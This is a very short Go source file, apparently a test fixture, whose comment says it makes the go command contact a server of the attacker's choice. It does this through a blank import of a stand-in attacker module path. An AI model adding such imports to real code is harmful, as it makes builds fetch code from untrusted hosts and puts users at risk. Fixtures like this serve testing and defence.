// Has the go command ask a server of the attacker's choice.
package raft

import _ "raftlab-attack.invalid/x"
